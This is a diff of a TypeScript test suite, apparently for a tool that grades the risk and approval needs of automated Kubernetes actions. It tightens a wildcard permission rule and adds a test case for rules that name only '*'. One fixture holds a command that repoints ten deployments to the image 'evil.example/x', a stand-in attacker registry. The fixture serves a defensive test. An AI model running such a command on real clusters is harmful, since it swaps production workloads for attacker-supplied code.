@@ -6,7 +6,7 @@ import { examples, file, floorOf, policy, policyOf } from '../../../test/offline
 const RULES = [
   'modes: [DryRun, Apply]',
   'kubernetes:',
-  '- {apiGroups: ["*"], resources: ["*", deployments/scale], verbs: ["*"], decision: Allow}',
+  '- {apiGroups: [apps], resources: [deployments, statefulsets, deployments/scale], verbs: ["*"], decision: Allow}',
 ].join('\n');
 const MEDIUM = 'approvals: [{upToRisk: Medium, autoReview: true, autoReviewAfter: 2}, {upToRisk: Critical}]';
 const HIGH = 'approvals: [{upToRisk: High, autoReview: true, autoReviewAfter: 0}, {upToRisk: Critical}]';
@@ -56,6 +56,17 @@ describe('The worst that starts without a person', () => {
       { objects: 3 },
     ],
     [
+      "is found where rules name nothing but '*'",
+      [floorOf, policyOf]
+        .map((of) =>
+          of(
+            `modes: [Apply]\nkubernetes: [{apiGroups: ["*"], resources: ["*"], verbs: [patch, delete], decision: Allow}]\n${MEDIUM}`,
+          ),
+        )
+        .join(''),
+      { level: 'Medium', objects: 10 },
+    ],
+    [
       'is a label where no more is Low',
       floorOf(`${RULES}\napprovals: [{upToRisk: Low, autoReview: true}, {upToRisk: Critical}]`) + policyOf(RULES),
       { level: 'Low', way: 'Playbook' },
@@ -76,7 +87,7 @@ describe('The worst that starts without a person', () => {
       'is said in words that no rule about commands asks about',
       floorOf(`${RULES}\n${MEDIUM}`) +
         policyOf(
-          `${RULES.replace('["*", deployments/scale], verbs: ["*"]', '[deployments], verbs: [patch]')}\ncommands: [{prefix: [kubectl, set, image], decision: Allow}]`,
+          `${RULES.replace('[deployments, statefulsets, deployments/scale], verbs: ["*"]', '[deployments], verbs: [patch]')}\ncommands: [{prefix: [kubectl, set, image], decision: Allow}]`,
         ),
       {
         command: `kubectl set image deployments.apps ${Array.from({ length: 10 }, (_, at) => `any-${at + 1}`).join(' ')} *=evil.example/x -n shop`,
